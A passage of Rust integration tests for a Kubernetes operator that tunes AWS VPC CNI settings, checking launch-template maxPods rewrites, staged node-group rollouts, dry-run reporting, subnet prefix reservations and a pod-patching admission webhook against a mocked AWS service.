            written.launch_template_data().unwrap(),
        );
        let decode = |data: &aws_sdk_ec2::types::ResponseLaunchTemplateData| {
            use base64::Engine as _;
            base64::engine::general_purpose::STANDARD
                .decode(data.user_data().unwrap())
                .unwrap()
        };
        let format = vpc_cni_tuner::userdata::detect(&decode(old)).unwrap();
        assert_eq!(
            read_max_pods(&decode(new), format).unwrap(),
            Some(58),
            "{id}"
        );
        // Everything but the user data is the source version's.
        let without_user_data = |d: &aws_sdk_ec2::types::ResponseLaunchTemplateData| {
            let mut d = d.clone();
            d.user_data = None;
            format!("{d:?}")
        };
        assert_eq!(without_user_data(new), without_user_data(old), "{id}");
        let text = String::from_utf8(decode(new)).unwrap();
        for kept in ["prod", "--node-labels=a=b", "# keep"] {
            if String::from_utf8(decode(old)).unwrap().contains(kept) {
                assert!(text.contains(kept), "{id}: {kept:?} kept in\n{text}");
            }
        }
        assert_eq!(
            default_version(&ec2, id).await,
            if set_default { 2 } else { 1 },
            "{id}: default version"
        );
        let reported = status
            .launch_templates
            .iter()
            .find(|t| t.id.as_deref() == Some(id.as_str()))
            .unwrap();
        assert!(reported.in_sync);
        assert_eq!(
            (
                reported.version_read,
                reported.version_written,
                reported.max_pods_wanted
            ),
            (Some(1), Some(2), 58),
            "{id}"
        );
    }
    // The rollout report: one running node from the AL2023 template, not yet at 58.
    let al2023_status = status
        .launch_templates
        .iter()
        .find(|t| t.id.as_deref() == Some(al2023.as_str()))
        .unwrap();
    assert_eq!(
        (al2023_status.nodes, al2023_status.nodes_behind),
        (Some(1), Some(1))
    );
    let launched_by = |id: &str| {
        let status = status
            .launch_templates
            .iter()
            .find(|t| t.id.as_deref() == Some(id));
        serde_json::to_value(&status.unwrap().launched_by).unwrap()
    };
    assert_eq!(
        launched_by(&al2023),
        json!([{"kind": "AutoScalingGroup", "name": "web", "version": "$Default",
                 "versionWanted": 2, "nodes": 0, "nodesBehind": 0}])
    );
    // The node group pins version 1: it keeps launching the old maxPods (no rollout asked).
    assert_eq!(
        launched_by(&al2),
        json!([{"kind": "NodeGroup", "name": "web-ng", "version": "1",
                 "versionWanted": 2, "nodes": 0, "nodesBehind": 0}])
    );
    assert_eq!(launched_by(&bottlerocket), json!([]));
    let synced = condition_of(&policy, conditions::LAUNCH_TEMPLATES_SYNCED).unwrap();
    assert!(
        synced
            .message
            .contains("1 running node(s) still have another maxPods"),
        "{}",
        synced.message
    );
    let formats: Vec<Option<&str>> = status
        .launch_templates
        .iter()
        .map(|t| t.format.as_deref())
        .collect();
    assert_eq!(formats.len(), 3);
    let events = cluster.events("gpu").await;
    let updates: Vec<&str> = events
        .iter()
        .filter(|e| e.reason.as_deref() == Some("LaunchTemplateUpdated"))
        .filter_map(|e| e.note.as_deref())
        .collect();
    for id in [&al2023, &al2, &bottlerocket] {
        assert!(
            updates
                .iter()
                .any(|n| n.contains(id.as_str()) && n.contains("-> 58")),
            "a LaunchTemplateUpdated Event for {id}: {updates:?}"
        );
    }

    // A second run (a restarted pod, with empty caches) finds every template in sync.
    assert!(
        operator
            .terminate(Duration::from_secs(20))
            .is_some_and(|s| s.success())
    );
    let second = cluster.operator("tuner-1", &aws_env);
    eventually("second run reconciled", CONVERGE, &[&second], || async {
        let metrics = support::http_get(second.admin_port, "/metrics")?.1;
        metrics
            .lines()
            .any(|l| l.starts_with("vpc_cni_tuner_reconciles_total") && !l.ends_with(" 0"))
            .then_some(())
    })
    .await;
    for id in [&al2023, &al2, &bottlerocket] {
        assert_eq!(
            versions(&ec2, id).await.len(),
            2,
            "{id}: the second run created nothing"
        );
    }
    let policy = cluster.get_policy("gpu").await;
    assert!(is_true(&policy, conditions::LAUNCH_TEMPLATES_SYNCED));
}

/// Two replicas with `--leader-elect`: only the leader writes; when it is killed, the other
/// takes the Lease over and repairs drift.
/// A Node of managed node group `group` (label `eks.amazonaws.com/nodegroup`), of policy pool
/// `pool`, whose kubelet runs `pods` pods at most.
async fn group_node(cluster: &Cluster, name: &str, pool: &str, group: &str, pods: u32) {
    cluster
        .node(
            name,
            json!({"pool": pool, "node.kubernetes.io/instance-type": "m5.large",
                   "eks.amazonaws.com/nodegroup": group}),
        )
        .await;
    let nodes: Api<Node> = Api::all(cluster.admin.clone());
    nodes
        .patch_status(
            name,
            &PatchParams::default(),
            &Patch::Merge(json!({"status": {"capacity": {"pods": pods.to_string()}}})),
        )
        .await
        .unwrap();
}

/// The rollout record of group `name` in policy `policy`'s status: (state, message).
async fn rollout_of(cluster: &Cluster, policy: &str, group: &str) -> Option<(String, String)> {
    let policy = cluster.get_policy(policy).await;
    policy
        .status?
        .launch_templates
        .into_iter()
        .flat_map(|t| t.launched_by.unwrap_or_default())
        .find(|l| l.name == group)?
        .rollout
        .map(|r| (r.state, r.message.unwrap_or_default()))
}

/// The count of AWS `operation` calls in an operator's `/metrics` (`None`: not serving yet).
fn aws_calls(operator: &Operator, operation: &str) -> Option<u64> {
    let metrics = support::http_get(operator.admin_port, "/metrics")?.1;
    let count = metrics
        .lines()
        .filter(|l| {
            l.starts_with("vpc_cni_tuner_aws_requests_total{")
                && l.contains(&format!("operation=\"{operation}\""))
        })
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum::<f64>();
    Some(count as u64)
}

/// Rollouts started by an operator: node-group updates and instance refreshes.
fn rollouts_started(operator: &Operator) -> u64 {
    let calls = |operation| aws_calls(operator, operation).expect("the operator's metrics");
    calls("UpdateNodegroupVersion") + calls("StartInstanceRefresh")
}

/// A launch template, an Auto Scaling group pinned to its version 1 and managed node groups
/// `groups` on version 1, each with one Node behind (17 pods), all in pool `pool`; a policy
/// `pool` with the template and `rollout`. Returns the template id.
async fn rollout_fleet(
    cluster: &Cluster,
    moto: &support::MotoServer,
    pool: &str,
    asg: Option<&str>,
    groups: &[&str],
    extra: Value,
) -> String {
    use support::launch_templates::{AL2023, create_template};
    let template = create_template(&moto.ec2_client(), pool, AL2023.as_bytes()).await;
    if let Some(asg) = asg {
        let spec = aws_sdk_autoscaling::types::LaunchTemplateSpecification::builder()
            .launch_template_id(&template)
            .version("1")
            .build();
        moto.auto_scaling_group(asg, |g| g.launch_template(spec))
            .await;
    }
    for group in groups {
        moto.node_group(group, &template, "1").await;
        group_node(cluster, &format!("{group}-1"), pool, group, 17).await;
    }
    let mut spec = json!({"nodeSelector": {"matchLabels": {"pool": pool}},
        "launchTemplates": [{"id": template, "rollout": {"enabled": true}}]});
    if let (Some(spec), Some(extra)) = (spec.as_object_mut(), extra.as_object()) {
        spec.extend(extra.clone());
    }
    cluster.policy(pool, spec).await;
    template
}

fn rollout_env(moto: &support::MotoServer) -> Vec<(&'static str, String)> {
    let mut env = moto.aws_env();
    env.push(("EKS_CLUSTER_NAME", "prod".to_owned()));
    env.push(("VPC_CNI_TUNER_ROLLOUT_FOLLOW_SECONDS", "1".to_owned()));
    env
}

#[tokio::test(flavor = "multi_thread")]
async fn rollout_rolls_one_group_at_a_time_and_starts_nothing_twice_across_a_restart() {
    let scratch = tempfile::tempdir().unwrap();
    let moto = support::MotoServer::start_with_rollouts(&json!({"seconds": 2}), scratch.path());
    let Some(cluster) = Cluster::start_with_rollouts(&moto).await else {
        return;
    };
    let template = rollout_fleet(
        &cluster,
        &moto,
        "fleet",
        Some("web"),
        &["ng-a", "ng-b"],
        json!({}),
    )
    .await;
    let env = rollout_env(&moto);
    let mut first = cluster.operator("tuner-0", &env);

    // The Auto Scaling group first (groups by kind, then name): the node groups wait.
    eventually("web's instance refresh", CONVERGE, &[&first], || async {
        let web = rollout_of(&cluster, "fleet", "web").await?;
        (web.0 == "InProgress").then_some(())
    })
    .await;
    for group in ["ng-a", "ng-b"] {
        assert_eq!(
            moto.node_group_state(group).await,
            ("1".to_owned(), "ACTIVE".to_owned()),
            "{group} is not touched while web rolls"
        );
        let (state, message) = rollout_of(&cluster, "fleet", group).await.unwrap();
        assert_eq!(state, "Pending", "{group}: {message}");
    }
    let policy = cluster.get_policy("fleet").await;
    let rolled = condition_of(&policy, conditions::NODES_ROLLED_OUT).unwrap();
    assert_eq!(
        (rolled.status.as_str(), rolled.reason.as_str()),
        ("False", "RolloutInProgress")
    );
    let (health, message) = support::argocd::health(&serde_json::to_value(&policy).unwrap());
    assert_eq!(health, "Progressing", "{message}");

    // Then ng-a alone; ng-b's update will be held by the service to span a restart.
    moto.rollout_config(&json!({"seconds": 2, "hold": ["ng-b"]}));
    eventually("ng-a's update", CONVERGE, &[&first], || async {
        let a = rollout_of(&cluster, "fleet", "ng-a").await?;
        (a.0 == "InProgress").then_some(())
    })
    .await;
    assert_eq!(
        rollout_of(&cluster, "fleet", "web").await.unwrap().0,
        "Successful"
    );
    assert_eq!(
        moto.node_group_state("ng-b").await,
        ("1".to_owned(), "ACTIVE".to_owned())
    );
    eventually("ng-b's update", CONVERGE, &[&first], || async {
        let b = rollout_of(&cluster, "fleet", "ng-b").await?;
        (b.0 == "InProgress").then_some(())
    })
    .await;
    assert_eq!(
        moto.node_group_state("ng-a").await,
        ("2".to_owned(), "ACTIVE".to_owned())
    );
    assert_eq!(
        rollouts_started(&first),
        3,
        "web, ng-a, ng-b: one start each"
    );

    // A restart mid-rollout follows ng-b's update from the status and starts nothing.
    first.terminate(Duration::from_secs(10));
    let second = cluster.operator("tuner-1", &env);
    eventually(
        "the new operator follows ng-b",
        CONVERGE,
        &[&second],
        || async { (aws_calls(&second, "DescribeUpdate")? >= 2).then_some(()) },
    )
    .await;
    assert_eq!(rollouts_started(&second), 0, "{}", second.log());
    moto.rollout_config(&json!({"seconds": 2}));
    let policy = eventually("NodesRolledOut", CONVERGE, &[&second], || async {
        let p = cluster.get_policy("fleet").await;
        is_true(&p, conditions::NODES_ROLLED_OUT).then_some(p)
    })
    .await;
    assert_eq!(rollouts_started(&second), 0, "nothing started twice");
    for group in ["ng-a", "ng-b"] {
        assert_eq!(moto.node_group_state(group).await.0, "2", "{group}");
    }
    let (autoscaling, _) = moto.launcher_clients();
    let web = autoscaling
        .describe_auto_scaling_groups()
        .auto_scaling_group_names("web")
        .send()
        .await
        .unwrap();
    let web_template = web.auto_scaling_groups()[0].launch_template().unwrap();
    assert_eq!(
        (web_template.launch_template_id(), web_template.version()),
        (Some(template.as_str()), Some("2"))
    );
    let launched_by =
        serde_json::to_value(&policy.status.as_ref().unwrap().launch_templates[0].launched_by)
            .unwrap();
    for group in launched_by.as_array().unwrap() {
        assert_eq!(group["versionWanted"], 2, "{group}");
        assert_eq!(group["rollout"]["state"], "Successful", "{group}");
        assert_eq!(group["rollout"]["version"], 2, "{group}");
    }
    let events = cluster.events("fleet").await;
    let count = |reason: &str, group: &str| {
        events
            .iter()
            .filter(|e| e.reason.as_deref() == Some(reason))
            .filter(|e| {
                e.note
                    .as_deref()
                    .is_some_and(|n| n.contains(&format!(" {group} ")))
            })
            .count()
    };
    for group in ["web", "ng-a", "ng-b"] {
        assert_eq!(count("RolloutStarted", group), 1, "{group}: {events:?}");
    }
    assert_eq!(count("RolloutSucceeded", "ng-b"), 1);
    let (health, message) = support::argocd::health(&serde_json::to_value(&policy).unwrap());
    assert_eq!(health, "Healthy", "{message}");
}

#[tokio::test(flavor = "multi_thread")]
async fn rollout_leaves_an_updating_group_alone_and_stops_after_a_failure() {
    const EVICTION: &str =
        "Reached max retries while trying to evict pods from nodes in node group ng-x";
    let scratch = tempfile::tempdir().unwrap();
    let moto = support::MotoServer::start_with_rollouts(
        &json!({"seconds": 1, "hold": ["ng-x"], "fail": {"ng-x": EVICTION}}),
        scratch.path(),
    );
    let Some(cluster) = Cluster::start_with_rollouts(&moto).await else {
        return;
    };
    let template =
        rollout_fleet(&cluster, &moto, "fleet", None, &["ng-x", "ng-y"], json!({})).await;
    // Someone else updates ng-x (the service holds it in progress).
    let (_, eks) = moto.launcher_clients();
    eks.update_nodegroup_version()
        .cluster_name("prod")
        .nodegroup_name("ng-x")
        .launch_template(
            aws_sdk_eks::types::LaunchTemplateSpecification::builder()
                .id(&template)
                .version("1")
                .build(),
        )
        .send()
        .await
        .expect("another update of ng-x");
    let operator = cluster.operator("tuner-0", &rollout_env(&moto));
    eventually("ng-x left alone", CONVERGE, &[&operator], || async {
        let x = rollout_of(&cluster, "fleet", "ng-x").await?;
        (x.0 == "Waiting" && x.1.contains("another update of the group runs (UPDATING)"))
            .then_some(())
    })
    .await;
    // Several follow-ups later, still nothing started anywhere.
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(rollouts_started(&operator), 0, "{}", operator.log());
    assert_eq!(
        rollout_of(&cluster, "fleet", "ng-y").await.unwrap().0,
        "Pending"
    );
    let policy = cluster.get_policy("fleet").await;
    let rolled = condition_of(&policy, conditions::NODES_ROLLED_OUT).unwrap();
    assert_eq!(rolled.reason, "RolloutWaiting", "{}", rolled.message);

    // The other update ends; the operator's own update of ng-x then fails (PDBs block the
    // eviction): reported with EKS's reason, and ng-y is not started.
    moto.rollout_config(&json!({"seconds": 1, "fail": {"ng-x": EVICTION}}));
    let policy = eventually("the failure reported", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("fleet").await;
        let c = condition_of(&p, conditions::NODES_ROLLED_OUT)?;
        (c.reason == "RolloutFailed").then_some(p)
    })
    .await;
    let (state, message) = rollout_of(&cluster, "fleet", "ng-x").await.unwrap();
    assert_eq!(state, "Failed");
    assert!(
        message.contains("PodEvictionFailure") && message.contains(EVICTION),
        "{message}"
    );
    cluster
        .wait_for_event("fleet", "RolloutFailed", &[&operator])
        .await;
    let (health, message) = support::argocd::health(&serde_json::to_value(&policy).unwrap());
    assert_eq!(health, "Degraded", "{message}");
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(rollouts_started(&operator), 1, "only ng-x's update");
    let (state, message) = rollout_of(&cluster, "fleet", "ng-y").await.unwrap();
    assert_eq!(state, "Waiting");
    assert!(message.contains("rollouts are stopped"), "{message}");
    assert_eq!(
        moto.node_group_state("ng-y").await,
        ("1".to_owned(), "ACTIVE".to_owned())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn rollout_in_dry_run_starts_nothing_and_says_what_it_would_do() {
    use support::launch_templates::versions;
    let scratch = tempfile::tempdir().unwrap();
    let moto = support::MotoServer::start_with_rollouts(&json!({"seconds": 1}), scratch.path());
    let Some(cluster) = Cluster::start_with_rollouts(&moto).await else {
        return;
    };
    let template = rollout_fleet(
        &cluster,
        &moto,
        "fleet",
        Some("web"),
        &["ng-a"],
        json!({"enforcement": "DryRun"}),
    )
    .await;
    let operator = cluster.operator("tuner-0", &rollout_env(&moto));
    let policy = eventually(
        "NodesRolledOut in DryRun",
        CONVERGE,
        &[&operator],
        || async {
            let p = cluster.get_policy("fleet").await;
            let c = condition_of(&p, conditions::NODES_ROLLED_OUT)?;
            (c.reason == "DryRun").then_some(p)
        },
    )
    .await;
    for group in ["web", "ng-a"] {
        let (state, message) = rollout_of(&cluster, "fleet", group).await.unwrap();
        assert_eq!(state, "WouldStart", "{group}");
        assert!(
            message.contains(&format!("would write a new version of {template}")),
            "{message}"
        );
    }
    assert!(!is_true(&policy, conditions::NODES_ROLLED_OUT));
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(rollouts_started(&operator), 0);
    assert_eq!(
        versions(&moto.ec2_client(), &template).await.len(),
        1,
        "no version written"
    );
    assert_eq!(
        moto.node_group_state("ng-a").await,
        ("1".to_owned(), "ACTIVE".to_owned())
    );
}

/// A subnet of `vpc` (tagged `kubernetes.io/role/cni` when `discovery`), its id.
async fn subnet(ec2: &aws_sdk_ec2::Client, vpc: &str, cidr: &str, discovery: bool) -> String {
    let id = ec2
        .create_subnet()
        .vpc_id(vpc)
        .cidr_block(cidr)
        .availability_zone("us-east-1a")
        .send()
        .await
        .expect("a subnet")
        .subnet()
        .and_then(|s| s.subnet_id())
        .unwrap()
        .to_owned();
    if discovery {
        ec2.create_tags()
            .resources(&id)
            .tags(
                aws_sdk_ec2::types::Tag::builder()
                    .key("kubernetes.io/role/cni")
                    .value("1")
                    .build(),
            )
            .send()
            .await
            .unwrap();
    }
    id
}

#[tokio::test(flavor = "multi_thread")]
async fn subnets_report_fragmentation_headroom_and_reserve_prefixes_once() {
    let moto = support::MotoServer::start_with_prefixes();
    let Some(cluster) = Cluster::start(json!({
        "aws": {"region": "us-east-1", "ec2EndpointUrl": moto.endpoint()},
        "subnets": {"enabled": true}
    }))
    .await
    else {
        return;
    };
    let ec2 = moto.ec2_client();
    let vpc = ec2
        .create_vpc()
        .cidr_block("10.0.0.0/16")
        .send()
        .await
        .unwrap()
        .vpc()
        .and_then(|v| v.vpc_id())
        .unwrap()
        .to_owned();
    let nodes_subnet = subnet(&ec2, &vpc, "10.0.1.0/24", false).await;
    let tagged = subnet(&ec2, &vpc, "10.0.2.0/24", true).await;
    // The fleet's node: an m5.large in the nodes' subnet, its ENI with a /28 and 3 secondary IPs.
    let instance = ec2
        .run_instances()
        .image_id("ami-12c6146b")
        .instance_type(aws_sdk_ec2::types::InstanceType::M5Large)
        .subnet_id(&nodes_subnet)
        .private_ip_address("10.0.1.10")
        .min_count(1)
        .max_count(1)
        .send()
        .await
        .unwrap()
        .instances()[0]
        .clone();
    let eni = instance.network_interfaces()[0]
        .network_interface_id()
        .unwrap()
        .to_owned();
    ec2.assign_private_ip_addresses()
        .network_interface_id(&eni)
        .private_ip_addresses("10.0.1.11")
        .private_ip_addresses("10.0.1.12")
        .private_ip_addresses("10.0.1.13")
        .send()
        .await
        .unwrap();
    ec2.assign_private_ip_addresses()
        .network_interface_id(&eni)
        .ipv4_prefixes("10.0.1.224/28")
        .send()
        .await
        .unwrap();
    // Other ENIs scatter an address into every other /28 but .160/28: one free aligned block.
    for block in (1..14).filter(|b| *b != 10) {
        ec2.create_network_interface()
            .subnet_id(&nodes_subnet)
            .private_ip_address(format!("10.0.1.{}", block * 16 + 7))
            .send()
            .await
            .unwrap();
    }
    let instance_id = instance.instance_id().unwrap().to_owned();
    cluster.ec2_node("n-1", "fleet", &instance_id).await;
    // Two pods run there (one host-network pod does not count).
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "default");
    for (name, host) in [("web-1", false), ("web-2", false), ("agent", true)] {
        pods.create(
            &PostParams::default(),
            &serde_json::from_value(json!({
                "metadata": {"name": name},
                "spec": {"nodeName": "n-1", "hostNetwork": host,
                         "containers": [{"name": "c", "image": "nginx"}]}
            }))
            .unwrap(),
        )
        .await
        .unwrap();
    }
    cluster
        .policy(
            "fleet",
            json!({"nodeSelector": {"matchLabels": {"pool": "fleet"}},
                   "prefixDelegation": "Enabled",
                   "subnets": {"minHeadroomNodes": 5, "reservePrefixes": true}}),
        )
        .await;
    let operator = cluster.operator("tuner-0", &moto.aws_env());
    let policy = eventually("SubnetCapacity", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("fleet").await;
        let c = condition_of(&p, conditions::SUBNET_CAPACITY)?;
        (c.reason == "LowHeadroom").then_some(p)
    })
    .await;
    let capacity = condition_of(&policy, conditions::SUBNET_CAPACITY).unwrap();
    assert_eq!(capacity.status, "False");
    assert!(
        capacity
            .message
            .contains(&format!("subnet {nodes_subnet} (10.0.1.0/24) has room for")),
        "{}",
        capacity.message
    );
    let status = serde_json::to_value(&policy.status.as_ref().unwrap().subnets).unwrap();
    let row = |id: &str| subnet_row(&status, id).unwrap_or_else(|| panic!("{id} in {status}"));
    let fleet_row = row(&nodes_subnet);
    assert_eq!(fleet_row["sources"], json!(["Nodes"]));
    // Blocks 0 (reserved, the node), 1-9, 11-13 (one address each), 14 (the prefix), 15 (.255)
    // are not free: only .160/28.
    assert_eq!(fleet_row["freeAlignedPrefixes"], 1);
    assert_eq!(fleet_row["largestFreeBlock"], "10.0.1.160/28");
    // 256 - 5 reserved - 4 node addresses - 16 prefix - 12 scattered.
    assert_eq!(fleet_row["freeAddresses"], 256 - 5 - 4 - 16 - 12);
    assert_eq!(fleet_row["fragmentedAddresses"], 256 - 5 - 4 - 16 - 12 - 16);
    assert_eq!(fleet_row["fleetNodes"], 1);
    // 3 secondary IPs + 16 prefix addresses held, 2 pods: 17 idle.
    assert_eq!(fleet_row["idleAddresses"], 17);
    assert_eq!(fleet_row["headroom"][0]["instanceType"], "m5.large");
    assert_eq!(fleet_row["headroom"][0]["nodes"], 1);
    assert_eq!(row(&tagged)["sources"], json!(["Discovery"]));
    assert_eq!(row(&tagged)["freeAlignedPrefixes"], 14);
    cluster
        .wait_for_event("fleet", "SubnetCapacityLow", &[&operator])
        .await;

    // The opt-in reservation: the one free aligned block, kept for prefixes, once.
    cluster
        .wait_for_event("fleet", "SubnetPrefixesReserved", &[&operator])
        .await;
    let reservations = |ec2: aws_sdk_ec2::Client, id: String| async move {
        ec2.get_subnet_cidr_reservations()
            .subnet_id(id)
            .send()
            .await
            .unwrap()
            .subnet_ipv4_cidr_reservations()
            .iter()
            .map(|r| {
                (
                    r.cidr().unwrap().to_owned(),
                    r.reservation_type().unwrap().as_str().to_owned(),
                    r.subnet_cidr_reservation_id().unwrap().to_owned(),
                )
            })
            .collect::<Vec<_>>()
    };
    let reserved = reservations(ec2.clone(), nodes_subnet.clone()).await;
    let cidr_and_type: Vec<_> = reserved.iter().map(|r| (&*r.0, &*r.1)).collect();
    assert_eq!(cidr_and_type, [("10.0.1.160/28", "prefix")]);
    // The subnet is read again within seconds (the pass that reserved asks for the next one;
    // tests/reconcile.rs pins that), not at the 5-minute refresh: the status shows the
    // reserved block, no longer free one by one.
    let reserved_free = fleet_row["freeAddresses"].as_u64().unwrap() - 16;
    let row = eventually(
        "the status after the reservation",
        CONVERGE,
        &[&operator],
        || async {
            let p = cluster.get_policy("fleet").await;
            let row = subnet_row(
                &serde_json::to_value(&p.status?.subnets).ok()?,
                &nodes_subnet,
            )?;
            (row["freeAddresses"].as_u64()? == reserved_free).then_some(row)
        },
    )
    .await;
    assert!(aws_calls(&operator, "GetSubnetCidrReservations").unwrap() >= 4);
    // Read back from EC2, the reservation is still known as the operator's (by its description).
    assert_eq!(row["prefixReservations"], json!(["10.0.1.160/28"]));
    assert_eq!(row["reservationCreated"], reserved[0].2.as_str());
    assert_eq!(aws_calls(&operator, "CreateSubnetCidrReservation"), Some(1));
    assert_eq!(
        reservations(ec2.clone(), nodes_subnet.clone()).await.len(),
        1,
        "created once"
    );
    let metrics = support::http_get(operator.admin_port, "/metrics")
        .unwrap()
        .1;
    let gauge = format!(
        "vpc_cni_tuner_subnet_free_aligned_prefixes{{policy=\"fleet\",subnet=\"{nodes_subnet}\"}} 1"
    );
    assert!(metrics.lines().any(|l| l == gauge), "{gauge} in\n{metrics}");

    // The CLI, as a process, from the same account.
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_vpc-cni-tuner"))
        .args([
            "subnets",
            "--subnet-id",
            &nodes_subnet,
            "--instance-type",
            "m5.large",
            "--prefix-delegation",
            "-o",
            "json",
        ])
        .env_clear()
        .envs(moto.aws_env())
        .env("AWS_ENDPOINT_URL", moto.endpoint())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let json: Value = serde_json::from_slice(&output.stdout).unwrap();
    let cli = &json["subnets"][0];
    assert_eq!(cli["subnetId"], nodes_subnet.as_str());
    assert_eq!(cli["cidr"], "10.0.1.0/24");
    // The reservation now keeps .160/28 for prefixes: still delegable, no longer free one by one.
    assert_eq!(cli["freeAlignedPrefixes"], 1);
    assert_eq!(
        cli["freeAddresses"],
        fleet_row["freeAddresses"].as_u64().unwrap() - 16
    );
    // Every other block holds an address: all free addresses are fragmented.
    assert_eq!(cli["fragmentedAddresses"], cli["freeAddresses"]);
}

/// The row of subnet `id` in a policy's `status.subnets` (as JSON).
fn subnet_row(subnets: &Value, id: &str) -> Option<Value> {
    subnets
        .as_array()?
        .iter()
        .find(|s| s["subnetId"] == id)
        .cloned()
}

/// An aws-node pod as the DaemonSet controller creates it for node `node`, with `ds`'s
/// aws-node container; the created pod.
async fn aws_node_pod(
    cluster: &Cluster,
    name: &str,
    node: &str,
    ds: &DaemonSet,
) -> k8s_openapi::api::core::v1::Pod {
    let pods: Api<k8s_openapi::api::core::v1::Pod> =
        Api::namespaced(cluster.admin.clone(), "kube-system");
    let container = container(ds, "aws-node");
    let pod = json!({
        "metadata": {"name": name, "labels": {"k8s-app": "aws-node"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "aws-node",
                                 "uid": ds.metadata.uid, "controller": true}]},
        "spec": {
            "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [{"matchFields": [
                    {"key": "metadata.name", "operator": "In", "values": [node]}]}]}}},
            "containers": [{"name": "aws-node", "image": container.image, "env": container.env}]
        }
    });
    pods.create(
        &PostParams::default(),
        &serde_json::from_value(pod).unwrap(),
    )
    .await
    .unwrap()
}

fn pod_env(pod: &k8s_openapi::api::core::v1::Pod) -> BTreeMap<String, String> {
    pod.spec.as_ref().unwrap().containers[0]
        .env
        .iter()
        .flatten()
        .map(|e| (e.name.clone(), e.value.clone().unwrap_or_default()))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn webhook_gives_each_aws_node_pod_the_warm_env_of_its_node_and_never_blocks() {
    let Some(cluster) = Cluster::start(json!({"webhook": {"enabled": true}})).await else {
        return;
    };
    cluster
        .node(
            "small",
            json!({"pool": "mixed", "node.kubernetes.io/instance-type": "t3.medium"}),
        )
        .await;
    cluster
        .node(
            "big",
            json!({"pool": "mixed", "node.kubernetes.io/instance-type": "m5.24xlarge"}),
        )
        .await;
    cluster
        .policy(
            "mixed",
            json!({"nodeSelector": {"matchLabels": {"pool": "mixed"}},
                   "prefixDelegation": "Disabled",
                   "warmPool": {"profile": "ConserveIPs", "perInstanceType": true}}),
        )
        .await;
    // The chart's webhook configuration, pointed at the operator's loopback address (the chart
    // points it at its Service), applied before the operator so its first pass sets caBundle.
    let port = support::free_port();
    let configurations = cluster.webhook_configuration(port).await;
    let mut operator = cluster.webhook_operator("tuner-0", port, &[]);
    let policy = eventually("per-type warm env", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("mixed").await;
        let types = &p.status.as_ref()?.instance_types;
        (types.len() == 2 && types.iter().all(|t| !t.warm_env.is_empty())).then_some(p)
    })
    .await;
    let warm_of = |t: &str| {
        policy
            .status
            .as_ref()
            .unwrap()
            .instance_types
            .iter()
            .find(|s| s.instance_type == t)
            .unwrap()
            .warm_env
            .clone()
    };
    let (small, big) = (warm_of("t3.medium"), warm_of("m5.24xlarge"));
    assert_eq!(
        small.get("WARM_IP_TARGET").map(String::as_str),
        Some("3"),
        "{small:?}"
    );
    assert_eq!(
        small.get("MINIMUM_IP_TARGET").map(String::as_str),
        Some("5")
    );
    assert_eq!(
        big.get("WARM_IP_TARGET").map(String::as_str),
        Some("8"),
        "{big:?}"
    );
    assert_eq!(big.get("MINIMUM_IP_TARGET").map(String::as_str), Some("49"));
    // The DaemonSet keeps the fleet's values (the smallest type bounds them).
    cluster
        .wait_for_env(
            "MINIMUM_IP_TARGET",
            "5",
            "the fleet env",
            CONVERGE,
            &[&operator],
        )
        .await;
    eventually(
        "caBundle set by the operator",
        CONVERGE,
        &[&operator],
        || async {
            let c = configurations.get("vpc-cni-tuner-aws-node").await.ok()?;
            c.webhooks?[0].client_config.ca_bundle.as_ref().map(|_| ())
        },
    )
    .await;

    // Each pod gets its own node's values; entries the webhook does not own stay.
    let ds = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    let mut attempt = 0;
    let (small_pod, big_pod) = eventually("patched aws-node pods", CONVERGE, &[&operator], || {
        attempt += 1;
        let (cluster, ds) = (&cluster, &ds);
        let n = attempt;
        async move {
            let s = aws_node_pod(cluster, &format!("aws-node-s{n}"), "small", ds).await;
            let b = aws_node_pod(cluster, &format!("aws-node-b{n}"), "big", ds).await;
            (pod_env(&s).get("MINIMUM_IP_TARGET").map(String::as_str) == Some("5")
                && pod_env(&b).get("MINIMUM_IP_TARGET").map(String::as_str) == Some("49"))
            .then_some((s, b))
        }
    })
    .await;
    let fleet_env: BTreeMap<String, String> = container(&ds, "aws-node")
        .env
        .iter()
        .flatten()
        .map(|e| (e.name.clone(), e.value.clone().unwrap_or_default()))
        .collect();
    for (pod, wanted) in [(&small_pod, &small), (&big_pod, &big)] {
        let env = pod_env(pod);
        for (name, value) in &fleet_env {
            let expected = match name.as_str() {
                "WARM_ENI_TARGET" | "WARM_IP_TARGET" | "MINIMUM_IP_TARGET"
                | "WARM_PREFIX_TARGET" => wanted.get(name).cloned().unwrap_or_default(),
                _ => value.clone(),
            };
            assert_eq!(
                env.get(name),
                Some(&expected),
                "{name} of {:?}",
                pod.metadata.name
            );
        }
        assert_eq!(
            env.get("ENABLE_PREFIX_DELEGATION").map(String::as_str),
            Some("false")
        );
    }
    // 50 idle connections to the webhook port (no TLS hello) do not hold up an admission on
    // a new connection: each handshake runs on its own. (The API server reuses its pooled
    // connection, so the review is also sent as it would come on a fresh one.)
    let ca = configurations
        .get("vpc-cni-tuner-aws-node")
        .await
        .unwrap()
        .webhooks
        .unwrap()[0]
        .client_config
        .ca_bundle
        .clone()
        .unwrap()
        .0;
    let quiet = aws_node_pod(&cluster, "aws-node-quiet", "big", &ds).await;
    let review = json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": "idle-check", "kind": {"group": "", "version": "v1", "kind": "Pod"},
            "resource": {"group": "", "version": "v1", "resource": "pods"},
            "namespace": "kube-system", "operation": "CREATE",
            "object": serde_json::to_value(&quiet).unwrap()}});
    let (quiet_latency, answer) = post_review(port, &ca, &review).await;
